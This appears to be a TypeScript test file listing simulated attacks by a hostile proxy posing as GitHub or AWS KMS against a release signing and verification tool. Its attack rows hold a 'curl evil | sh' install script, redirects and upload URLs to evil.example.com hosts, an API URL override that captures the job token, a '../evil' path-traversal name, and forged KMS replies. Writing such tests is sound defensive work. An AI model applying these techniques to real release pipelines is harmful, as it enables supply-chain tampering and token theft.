import { FakeKms } from '../../fakes/kms.ts'
import type { Lie } from '../../fakes/kms.ts'
import { FakeGitHub } from '../../fakes/github.ts'
import { onTestFinished } from 'vitest'
import { testKey } from '../keys.ts'
import { filesIn } from '../outcome.ts'
import { TAG, startWorld } from '../world.ts'
import type { World } from '../world.ts'
import { FILES, assertHolds, pinOf, put, signedWorld, take, verifyAll } from './stage.ts'
import type { Attack } from './stage.ts'

// What somebody can do who answers in the place of GitHub or KMS: a proxy, a hijacked name, a wrong endpoint.

/** The listing of the release's assets, changed on its way. */
async function changeListing(
  { github, release }: World,
  change: (assets: readonly Record<string, unknown>[]) => readonly Record<string, unknown>[]
): Promise<void> {
  const path = `/repos/${github.owner}/${github.repo}/releases/${release.id}/assets`
  const headers = { authorization: `Bearer ${github.token}`, 'user-agent': 'proxy' }
  const answer = await fetch(`${github.apiUrl}${path}?per_page=100`, { headers })
  const assets = (await answer.json()) as readonly Record<string, unknown>[]
  github.faults.next({
    kind: 'respond',
    match: request => request.path.includes(`${path}?`),
    times: 99,
    status: 200,
    headers: { 'content-type': 'application/json; charset=utf-8' },
    body: JSON.stringify(change(assets))
  })
}

type Row = Omit<Attack, 'run' | 'who' | 'given'> & { readonly given?: string }

function listing(
  row: Row,
  change: Parameters<typeof changeListing>[1],
  before: (world: World) => void = () => {}
): Attack {
  return {
    who: 'api',
    given: 'pin, closed world',
    ...row,
    run: async () => {
      const world = await signedWorld()
      before(world)
      await changeListing(world, change)
      return verifyAll(world)
    }
  }
}

const forAsset =
  (name: string, fields: Readonly<Record<string, unknown>>) =>
  (assets: readonly Record<string, unknown>[]): Record<string, unknown>[] =>
    assets.map(asset => (asset['name'] === name ? { ...asset, ...fields } : asset))

const without =
  (...names: readonly string[]) =>
  (assets: readonly Record<string, unknown>[]): Record<string, unknown>[] =>
    assets.filter(({ name }) => !names.includes(String(name)))

function download(row: Row, act: (world: World) => void, after: (world: World) => void = () => {}): Attack {
  return {
    who: 'api',
    given: 'pin, output-directory',
    ...row,
    run: async () => {
      const world = await signedWorld()
      act(world)
      const result = await verifyAll(world, { 'output-directory': 'verified' })
      assertHolds(
        result.exitCode === 0 || filesIn(result.workspace).every(name => !name.startsWith('verified')),
        'nothing is kept of what is not verified'
      )
      after(world)
      return result
    }
  }
}

function upload(does: string, answer: string, act: (world: World) => void): Attack {
  return {
    who: 'api',
    does,
    answer,
    given: 'sign',
    run: async () => {
      const world = await startWorld()
      act(world)
      return world.sign({}, { files: FILES })
    }
  }
}

const uploadUrl = (world: World, url: string): void =>
  world.github.faults.next({
    kind: 'respond',
    match: ({ method, path }) => method === 'GET' && /\/releases\?/.test(path),
    times: 9,
    status: 200,
    headers: { 'content-type': 'application/json; charset=utf-8' },
    body: JSON.stringify([
      { id: world.release.id, tag_name: TAG, draft: true, html_url: '', upload_url: url }
    ])
  })

export const API_ATTACKS: readonly Attack[] = [
  listing(
    { does: 'states another digest of an asset', answer: 'ASSET_WRONG' },
    forAsset('app.tgz', { digest: `sha256:${'0'.repeat(64)}` })
  ),
  listing(
    { does: 'states another size of an asset', answer: 'ASSET_WRONG' },
    forAsset('app.tgz', { size: 3 })
  ),
  listing(
    { does: 'states no digest and serves different content', answer: 'VERIFICATION_FAILED: file-changed' },
    forAsset('app.tgz', { digest: null, size: 'a trojan\n'.length }),
    world => put(world, 'app.tgz', 'a trojan\n')
  ),
  listing(
    {
      does: 'states that a complete asset was never uploaded',
      answer: 'VERIFICATION_FAILED: asset-unverified, checksums-incomplete'
    },
    forAsset('tool.zip', { state: 'starter' })
  ),
  listing(
    {
      does: 'states another name of an asset',
      answer: 'VERIFICATION_FAILED: asset-unverified, checksums-incomplete, not-in-checksums'
    },
    forAsset('tool.zip', { name: 'install.exe' })
  ),
  listing(
    {
      does: 'lists two assets under one name',
      answer: 'GITHUB_REFUSED'
    },
    forAsset('tool.zip', { name: 'app.tgz' })
  ),
  listing(
    { does: 'omits an artifact from the listing', answer: 'VERIFICATION_FAILED: checksums-incomplete' },
    without('tool.zip', 'tool.zip.sig')
  ),
  listing(
    {
      does: 'omits an unsigned extra file from the listing',
      answer: 'passes',
      instead:
        'A closed world depends on a correct listing; deploy from output-directory, which has verified files only'
    },
    without('install.sh'),
    world => put(world, 'install.sh', 'curl evil | sh\n')
  ),
  {
    ...listing({ does: 'gives an asset the name "../evil"', answer: 'ASSET_WRONG' }, assets => assets),
    given: 'output-directory',
    run: async () => {
      const world = await signedWorld({ strategy: 'each' })
      for (const suffix of ['', '.sig']) put(world, `../evil${suffix}`, take(world, `tool.zip${suffix}`))
      return verifyAll(world, { 'output-directory': 'verified' })
    }
  },
  download({ does: 'serves a page instead of an artifact', answer: 'ASSET_WRONG' }, world =>
    world.github.lie({ kind: 'html', asset: 'app.tgz', times: 9 })
  ),
  download({ does: 'cuts each download', answer: 'GITHUB_UNREACHABLE' }, world =>
    world.github.lie({ kind: 'truncated', asset: 'app.tgz', times: 99 })
  ),
  download(
    {
      does: 'redirects downloads to another host',
      answer: 'passes',
      holds: 'The token is not sent there, and the bytes are judged by their signature'
    },
    () => {},
    world =>
      assertHolds(
        world.github.downloads.requests.length > 0 &&
          world.github.downloads.requests.every(({ headers }) => headers.authorization === undefined),
        'no token at the other origin'
      )
  ),
  download({ does: 'redirects a download to plain http', answer: 'ENVIRONMENT_INSECURE' }, world =>
    world.github.faults.next({
      kind: 'respond',
      match: ({ path }) =>
        path.endsWith(`/releases/assets/${world.github.asset(world.release.id, 'app.tgz').id}`),
      status: 302,
      headers: { location: 'http://evil.example.com/app.tgz' }
    })
  ),
  upload('names another host as upload_url', 'GITHUB_REFUSED', world =>
    uploadUrl(world, 'https://uploads.evil.example.com/assets{?name,label}')
  ),
  upload('redirects an upload to another host', 'GITHUB_REFUSED', world => world.github.redirectUploads(9)),
  upload('stores different content than was sent, as its own digest shows', 'ASSET_WRONG', world =>
    world.github.lie({ kind: 'digest', asset: 'app.tgz.sig', digest: `sha256:${'0'.repeat(64)}`, times: 99 })
  ),
  {
    who: 'api',
    does: 'is GITHUB_API_URL by plain http',
    given: 'any',
    answer: 'ENVIRONMENT_INSECURE',
    run: async () =>
      verifyAll(await signedWorld(), {}, { env: { GITHUB_API_URL: 'http://evil.example.com' } })
  },
  {
    who: 'api',
    does: 'is GITHUB_API_URL by https, another host',
    given: 'verify',
    answer: 'GITHUB_ACCESS_DENIED',
    instead:
      'It gets the token of the job. The runner sets this variable over any env:; who can change it has the job',
    run: async () => {
      const world = await signedWorld()
      const foreign = await FakeGitHub.start({ owner: world.github.owner, repo: world.github.repo })
      onTestFinished(() => foreign.close())
      const result = await verifyAll(world, {}, { env: { GITHUB_API_URL: foreign.apiUrl } })
      assertHolds(
        foreign.requests.some(({ headers }) => headers.authorization?.includes(world.github.token) === true),
        'the token is sent there'
      )
      return result
    }
  }
]

function kmsLie(does: string, lie: Lie): Attack {
  return {
    who: 'kms',
    does,
    given: 'sign',
    answer: 'KMS_ANSWER_WRONG',
    run: async () => {
      const world = await startWorld()
      world.kms.lie(lie)
      const result = await world.sign({ upload: 'all' }, { files: FILES })
      assertHolds(world.github.mutations().length === 0, 'nothing was attached')
      return result
    }
  }
}

/** KMS as somebody else runs it: it knows the ARN, and has a key of its own behind it. */
function foreignKms(given: string, answer: string, pinned: boolean, instead?: string): Attack {
  return {
    who: 'kms',
    does: 'answers GetPublicKey and Sign with their own key under the right ARN',
    given,
    answer,
    ...(instead === undefined ? {} : { instead }),
    run: async () => {
      const world = await startWorld()
      const { credentials, region } = world
      const kms = await FakeKms.start({ region, accountId: '111122223333', credentials })
      onTestFinished(() => kms.close())
      await kms.createKey({ keyId: world.key.keyId, privateKey: await testKey('RSA_2048', 11) })
      const env = { AWS_ENDPOINT_URL_KMS: kms.url }
      return world.sign(pinned ? { 'public-key-fingerprint': pinOf(world) } : {}, { env })
    }
  }
}

export const KMS_ATTACKS: readonly Attack[] = [
  kmsLie('signs with another key', { kind: 'damaged-signature' }),
  kmsLie('hashes the digest again (RAW)', { kind: 'raw-signature' }),
  kmsLie('signs with another algorithm', {
    kind: 'signing-algorithm',
    signingAlgorithm: 'RSASSA_PSS_SHA_512'
  }),
  kmsLie('answers for another ARN', {
    kind: 'key-arn',
    keyArn: 'arn:aws:kms:eu-central-1:111122223333:key/00000000-0000-4000-8000-000000000000'
  }),
  foreignKms('pin', 'KEY_NOT_ALLOWED', true),
  foreignKms('no pin', 'passes', false, 'TLS to AWS; a pin or trusted-public-key in the signing step'),
  {
    who: 'kms',
    does: 'answers that every signature is valid',
    given: 'verify-with: kms',
    answer: 'VERIFICATION_FAILED: file-changed',
    run: async () => {
      const world = await signedWorld()
      put(world, 'app.tgz', 'a trojan\n')
      world.kms.faults.next({
        kind: 'respond',
        match: ({ headers }) => headers['x-amz-target'] === 'TrentService.Verify',
        times: 99,
        status: 200,
        headers: { 'content-type': 'application/x-amz-json-1.1' },
        body: JSON.stringify({
          KeyId: world.key.arn,
          SigningAlgorithm: 'RSASSA_PSS_SHA_256',
          SignatureValid: true
        })
      })
      return verifyAll(world, { ...world.awsInputs, 'verify-with': 'kms' })
    }
  }
]
